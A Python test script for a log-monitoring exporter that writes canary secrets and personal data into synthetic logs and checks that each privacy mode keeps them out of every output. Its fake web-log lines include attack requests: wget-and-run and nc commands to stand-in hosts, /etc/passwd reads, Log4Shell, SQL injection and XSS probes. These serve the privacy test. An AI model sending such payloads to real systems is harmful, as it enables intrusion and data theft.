#!/usr/bin/env python3
"""Shows that nothing tells what the privacy settings forbid.

    scripts/leak_test.py [--keep]

A telephone number in several spellings, what a customer wrote, passwords (in URLs, in front of an @, typed as user names), an e-mail
address, a token, the key by which a game knows a player, addresses of clients, and the program's own secrets are written into every kind
of log, in each way to show senders (full, hash, anon, agg) times each way to show clients (full, prefix, hash). Then everything that
comes out is searched: metrics in both formats, every path of the API, the page, standard output and error at level debug, every byte of
the state directory, what is pushed to Loki, sent to Discord and to a webhook, and what `explain` and `replay` print. None of it may hold what its mode forbids; and what
the mode allows must show somewhere, so that the search is known to find.

Everything lives in a temporary folder (--keep leaves it) and on loopback; exit code 0 if nothing leaked.
"""

import argparse
import http.client
import http.server
import json
import subprocess
import sys
import tempfile
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

from exporter import OPENMETRICS, TEXT, Exporter, binary, take_away
from fake_loki import FakeLoki

SALT = "9c41e07bb35d82f6a1904e6d7fc8235b"
TOKEN = "canary-8d1f60b7c2e94a53-of-the-api"
LOKI_PASSWORD = "CanaryOfTheArchive"
DISCORD = "CanaryTokenOfTheWebhook"
SIGNING = "canary-that-signs-bodies"
CD_KEY = "c0ffee00deadbeefc0ffee00deadbeef"
NUMBER = "600987123"
WORDS = "zanahoria canaria"
PASSWORD = "CanaryPass1"
PERSON = "ana.canary@example.org"
BEARER = "canaryBearerWithoutDigits"
LINK = "cAnArYlInK"
CLIENT, NETWORK = "203.0.113.77", "203.0.113."
PLAYER = "198.51.100.99"
VERSION = "sqlmap/1.8.2"
# What a payload fetches its next part from.
PAYLOAD = "198.51.100.23"
PAYLOAD_V6 = "2001:db8:77::abc1"
PAYLOADS = (PAYLOAD, PAYLOAD_V6, PAYLOAD_V6.replace(":", "%3A"))
# Numbers are searched with what people put between digits taken out.
BETWEEN = b" -.()/+\\\"'"

MODES = [(senders, clients) for senders in ("full", "hash", "anon", "agg") for clients in ("full", "prefix", "hash")]
FORMATS = {
    "bot": "whatsapp_bot",
    "web": "nginx_combined",
    "json": "nginx_json",
    "errors": "nginx_error",
    "ssh": "sshd",
    "firewall": "firewall",
    "players": "players_csv",
}
PATHS = [
    "/", "/api/v1/sources", "/api/v1/errors", "/api/v1/clients", f"/api/v1/clients/{CLIENT}", "/api/v1/attacks?limit=500",
    "/api/v1/attacks?by=site", "/api/v1/attacks?by=class", "/api/v1/attacks?by=country", "/api/v1/watchlist", "/api/v1/findings?limit=500",
    "/api/v1/probes", "/api/v1/containers", "/api/v1/incidents?limit=500", "/api/v1/feed?limit=500", f"/api/v1/feed?q={NUMBER}",
]  # fmt: skip


def logs():
    """The lines of each log."""
    now = datetime.now(timezone.utc)
    local, common, syslog = f"{datetime.now():%Y-%m-%d %H:%M:%S}", f"{now:%d/%b/%Y:%H:%M:%S} +0000", f"{now:%Y-%m-%dT%H:%M:%S}Z web"
    spellings = [f"whatsapp:+34{NUMBER}", "+34-600-987-123", f"0034{NUMBER}", f"whatsapp:0034{NUMBER}", f"34{NUMBER}"]
    bot = []
    for spelling in spellings:
        bot.append(f'{local},100 [INFO] bot (1): Incoming message from {spelling} body="{WORDS}, call +34 600 98 71 23 or {PERSON}"')
        bot.append(f'{local},900 [INFO] bot (1): Outgoing message to {spelling} body="{WORDS} https://shop.example/pago/{LINK}"')
    bot += [
        f"{local},100 [ERROR] bot (1): Twilio refused +34 600 98 71 23 ({PERSON}), password={PASSWORD} Authorization: Bearer {BEARER}",
        f"{local},100 [ERROR] bot (1): could not open redis://cache:{PASSWORD}@10.0.0.7:6379/0 for 0034{NUMBER}",
        f"{local},100 [ERROR] bot (1): peer:{PAYLOAD_V6} and /{PAYLOAD_V6}:51234 hung up",
        "Traceback (most recent call last):",
        f'  File "bot.py", line 7, in send (to="whatsapp:+34{NUMBER}")',
        f"ValueError: {PERSON} has no link https://shop.example/pago/{LINK}",
        f'{local},100 [CRITICAL] bot (1): {{"db_password": "{PASSWORD}", "user": "{PERSON}", "phone": "+34 600-987-123"}}',
    ]
    targets = [
        f"/login?user={PERSON}&password={PASSWORD}&x=1%20UNION%20SELECT%201",
        f"/?next=http://ana:{PASSWORD}@evil.example/x&tel=34{NUMBER}&a=../../../../etc/passwd",
        f"/.env?token={BEARER}&to=%2B34-600-987-123",
        "/.env?to=600%20987%20123", "/.env?to=%2B34+600+98+71+23",
        f"/shell?cd+/tmp;wget+http://{PAYLOAD}/x;sh+x", f"/shell?nc%20{PAYLOAD}%20444",
        f"/shell?wget+http://[{PAYLOAD_V6}]:8080/x;sh+x", f"/shell?wget+http%3A%2F%2F%5B{PAYLOADS[2]}%5D/x;sh+x",
        "/shell.php?cmd=cat%20/etc/passwd", "/?x=${jndi:ldap://a.example/x}", "/?q=<script>alert(1)</script>", "/.git/config",
        "/cgi-bin/.%2e/.%2e/bin/sh", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?id=1'%20OR%201=1--",
    ]  # fmt: skip
    agent = f"{VERSION} (Bearer {BEARER}; {PERSON}; +34 600 987 123) tel/600.987.123 tel/600987.123 x/{PAYLOAD} x/{PAYLOAD_V6}"
    web = [f'{CLIENT} - {PASSWORD} [{common}] "GET {target} HTTP/1.1" 404 1 "http://ana:{PASSWORD}@a.example/" "{agent}"' for target in targets]
    record = lambda target: {"ip": CLIENT, "method": "GET", "uri": target, "status": 404, "host": "shop.example", "ua": agent, "time": common, "req_time": "0.1"}
    errors = [
        f'{now:%Y/%m/%d %H:%M:%S} [error] 1#1: *1 user "{PASSWORD}": password mismatch, client: {CLIENT}, server: a, request: "GET /{NUMBER} HTTP/1.1", host: "a"',
        f'{now:%Y/%m/%d %H:%M:%S} [error] 1#1: *2 access forbidden by rule, client: {CLIENT}, server: a, request: "GET /?password={PASSWORD}&a={PERSON} HTTP/1.1", host: "a"',
    ]
    ssh = []
    for port in range(40_000, 40_012):
        ssh.append(f"{syslog} sshd[{port}]: Invalid user {PASSWORD} from {CLIENT} port {port}")
        ssh.append(f"{syslog} sshd[{port}]: Failed password for invalid user {PASSWORD} from {CLIENT} port {port} ssh2")
    # Several clients of one network: a finding about the network.
    for client in range(80, 90):
        ssh += [f"{syslog} sshd[{60_000 + client}]: Failed password for invalid user {PASSWORD} from {NETWORK}{client} port {port} ssh2" for port in range(3)]
    ssh.append(f"{syslog} sshd[50000]: Failed password for {NUMBER} from {CLIENT} port 50000 ssh2")
    ssh.append(f"{syslog} sshd[50001]: Accepted password for root from {CLIENT} port 50001 ssh2")
    packet = "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:00:00:01:52:54:00:00:00:02:08:00 SRC={} DST=192.0.2.1 LEN=40 PROTO=TCP SPT=51000 DPT={} SYN"
    firewall = [f"{syslog} kernel: " + packet.format(CLIENT, port) for port in range(20, 45)]
    players = [f"{now:%Y-%m-%dT%H:%M:%S}Z,{event},Ana,{PLAYER}:28960,{CD_KEY},arena" for event in ("join", "leave", "join")]
    return {
        "bot": bot, "web": web, "json": [json.dumps(record(target)) for target in targets], "errors": errors, "ssh": ssh,
        "firewall": firewall, "players": players,
    }  # fmt: skip


def forbidden(senders, clients):
    """What may not show: a word for it, and the bytes."""
    secrets = [("the salt", SALT), ("the API's token", TOKEN), ("the archive's password", LOKI_PASSWORD), ("the webhook's token", DISCORD)]
    secrets += [("what signs bodies", SIGNING), ("a player's key", CD_KEY)]
    people = [("a message", WORDS), ("a password", PASSWORD), ("an e-mail address", PERSON), ("a token", BEARER), ("a link", LINK)]
    addresses = {"full": [], "prefix": [CLIENT, PLAYER], "hash": [CLIENT, PLAYER, NETWORK]}[clients]
    hidden = secrets + (people if senders != "full" else []) + [("an address", address) for address in addresses]
    hidden += [("an address in a payload", payload) for payload in PAYLOADS] if senders != "full" and clients != "full" else []
    return [(what, text.encode()) for what, text in hidden], senders != "full"


class Receiver:
    """Takes messages, as Discord and as a webhook."""

    def __init__(self):
        self.bodies = {"discord": b"", "webhook": b""}

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(handler):
                body = handler.rfile.read(int(handler.headers.get("Content-Length", 0)))
                self.bodies["webhook" if handler.path == "/hook" else "discord"] += body
                handler.send_response(200)
                handler.end_headers()
                handler.wfile.write(b'{"id": "1"}')

            do_POST = do_PATCH = do_GET = answer

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Search:
    """Looks for what a mode forbids, and remembers what it allows and has been seen."""

    def __init__(self, senders, clients):
        self.mode, self.seen, self.leaks = f"senders {senders}, clients {clients}", set(), []
        self.hidden, self.hides_number = forbidden(senders, clients)

    def look(self, where, out, by_design=()):
        """`by_design` may stand there: it is what was asked to be explained."""
        plain = out.replace(b"%20", b"").translate(None, BETWEEN)
        found = {what for what, text in self.hidden if text in out and text.decode() not in by_design}
        if NUMBER.encode() in plain and self.hides_number and NUMBER not in by_design:
            found.add("a number")
        self.leaks += [f"{self.mode}: {where} tells {what}" for what in sorted(found)]
        for text in (WORDS, PASSWORD, PERSON, BEARER, LINK, CLIENT, NETWORK, CD_KEY, *PAYLOADS, VERSION):
            self.seen |= {(where, text)} if text.encode() in out else set()
        self.seen |= {(where, NUMBER)} if NUMBER.encode() in plain else set()


def ask(exporter, path, accept=TEXT):
    connection = http.client.HTTPConnection("127.0.0.1", exporter.port, timeout=10)
    try:
        connection.request("GET", path, headers={"Accept": accept, "Authorization": f"Bearer {TOKEN}"})
        answer = connection.getresponse()
        return answer.status, answer.read()
    except (OSError, http.client.HTTPException):
        return 0, b""
    finally:
        connection.close()


def config(folder, senders, clients, port, told):
    sources = "".join(f'[[sources]]\nname = "{name}"\nfile = "{folder}/{name}.log"\nformat = "{form}"\nstart = "beginning"\n' for name, form in FORMATS.items())
    return (
        f'bearer_token_file = "{folder}/token"\n[privacy]\nsenders = "{senders}"\nclients = "{clients}"\nsalt_file = "{folder}/salt"\n'
        f'[log]\nlevel = "debug"\n[web]\nsites = ["shop.example"]\n[feed]\nmax_per_second = 1000\n'
        f'[notifiers.loki]\nurl = "http://127.0.0.1:{port}"\nuser = "hostwarden"\npassword_file = "{folder}/archive"\ninterval_secs = 1\n'
        f'[notifiers.discord]\nwebhook_url_file = "{folder}/discord"\n[notifiers.webhook]\nurl = "http://127.0.0.1:{told}/hook"\n'
        f'secret_file = "{folder}/signing"\n{sources}'
    )


def front_of(text, folder, port):
    """The exporter's own front has the section [server] and then [state]: the token belongs to the first."""
    token, rest = text.split("\n", 1)
    return f'[server]\nlisten = ["127.0.0.1:{port}"]\n{token}\n[state]\ndir = "{folder}/state"\n{rest}'


def state(folder):
    return b"".join(path.read_bytes() for path in sorted((folder / "state").rglob("*")) if path.is_file())


def run(folder, senders, clients, running):
    """Tries one mode; gives what was searched."""
    search = Search(senders, clients)
    for name, text in [("salt", SALT), ("token", TOKEN), ("archive", LOKI_PASSWORD), ("signing", SIGNING)]:
        (folder / name).write_text(text)
    for name, lines in logs().items():
        (folder / f"{name}.log").write_text("\n".join(lines) + "\n")
    loki, told = FakeLoki(), Receiver()
    (folder / "discord").write_text(f"http://127.0.0.1:{told.port}/api/webhooks/1/{DISCORD}")
    exporter = Exporter(folder, "")
    exporter.config.write_text(front_of(config(folder, senders, clients, loki.port, told.port), folder, exporter.port))
    running.append(exporter)
    exporter.start()
    deadline = time.monotonic() + 30
    answer = {}
    while time.monotonic() < deadline:
        # The last record of the bot is open until nothing more comes for a second: the first state on disk holds it so.
        status, page = ask(exporter, "/metrics")
        if status == 200 and "early state" not in answer:
            answer["early state"] = True
            search.look("the state while a record is open", state(folder))
        status, body = ask(exporter, "/api/v1/feed?limit=1")
        feed = json.loads(body) if status == 200 else {}
        if feed.get("total", 0) > 60 and feed["push"]["waiting"] == 0 and all(told.bodies.values()) and b'kind="critical"} 1' in page:
            break
        time.sleep(0.2)
    else:
        exporter.explain(f"the feed did not come: {feed}")
    for name, accept in [("metrics", TEXT), ("metrics in OpenMetrics", OPENMETRICS)]:
        search.look(name, ask(exporter, "/metrics", accept)[1])
    for path in PATHS:
        status, body = ask(exporter, path)
        # One who asks for an address has said it.
        asked = (CLIENT, NETWORK, NUMBER) if CLIENT in path or NUMBER in path else ()
        if status not in (200, 404):
            exporter.explain(f"{path}: {status}")
        search.look(path, body, asked if status == 404 else ())
    search.look("the state, running", state(folder))
    if exporter.stop() != 0:
        exporter.explain("no clean stop")
    search.look("the state, stopped", state(folder))
    loki.close()
    # How the password is shown to the archive is no leak.
    search.look("what was pushed", loki.raw)
    told.close()
    for name, body in told.bodies.items():
        search.look(f"what was sent to {name}", body)
    search.look("standard output and error", (folder / "exporter.log").read_bytes())
    environment = {"PATH": "/usr/bin:/bin", "TZ": "UTC"}
    for name, form in FORMATS.items():
        for words in (["explain"], *(["replay", "--output", output] for output in ("text", "json", "metrics"))):
            command = [binary(), "--config", str(exporter.config), words[0], "--format", form, *words[1:], str(folder / f"{name}.log")]
            done = subprocess.run(command, capture_output=True, env=environment, check=True)
            # Whoever wants a request or a login explained sees what was asked for, as it stands in the log.
            shown = (PASSWORD, PERSON, BEARER, NUMBER) if words[0] == "explain" and name in ("web", "json", "ssh") else ()
            shown += PAYLOADS if shown else ()
            search.look(f"{' '.join(words)} of {form}", done.stdout + done.stderr, shown)
    return search


def expect_shown(search, senders, clients):
    """What a mode allows must have been seen, or the search finds nothing."""
    feed, attacks, pushed = "/api/v1/feed?limit=500", "/api/v1/attacks?limit=500", "what was pushed"
    wanted = [(place, VERSION) for place in (feed, attacks, pushed, f"/api/v1/clients/{CLIENT}", "/api/v1/attacks?by=class")]
    wanted += [(place, payload) for place in (attacks, feed) for payload in PAYLOADS] if clients == "full" or senders == "full" else []
    if senders == "full":
        wanted += [(feed, NUMBER), (feed, WORDS), (pushed, WORDS), (pushed, NUMBER), (attacks, PASSWORD), (attacks, PERSON), (attacks, BEARER)]
        wanted += [("/api/v1/errors", NUMBER), ("/api/v1/errors", LINK), ("/api/v1/errors", PERSON), (feed, PASSWORD), ("explain of whatsapp_bot", WORDS)]
        wanted += [("the state, running", WORDS), ("the state, running", NUMBER)] if clients == "full" else []
    if clients == "full":
        wanted += [(feed, CLIENT), (pushed, CLIENT), ("metrics", CLIENT), ("/api/v1/findings?limit=500", CLIENT), ("the state, running", CLIENT)]
        wanted += [("standard output and error", CLIENT), ("what was sent to webhook", CLIENT)]
    if clients == "prefix":
        wanted += [(feed, NETWORK), (pushed, NETWORK), ("metrics", NETWORK)]
    if missing := [f"{where} does not show {text}" for where, text in wanted if (where, text) not in search.seen]:
        sys.exit(f"FAILED: {search.mode}: the search would find nothing: " + "; ".join(missing))


def main():
    arguments = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    arguments.add_argument("--keep", action="store_true", help="leave the temporary folder")
    arguments = arguments.parse_args()
    top, running, leaks = Path(tempfile.mkdtemp(prefix="hostwarden-leaks-")), [], []
    try:
        for senders, clients in MODES:
            folder = top / f"{senders}-{clients}"
            folder.mkdir()
            search = run(folder, senders, clients, running)
            expect_shown(search, senders, clients)
            leaks += search.leaks
        if leaks:
            sys.exit("FAILED:\n" + "\n".join(leaks))
        print(f"  nothing leaked in {len(MODES)} modes, from {len(PATHS) + 9 + 4 * len(FORMATS)} places each")
    finally:
        for exporter in running:
            exporter.stop()
        take_away(top, arguments.keep)


if __name__ == "__main__":
    main()
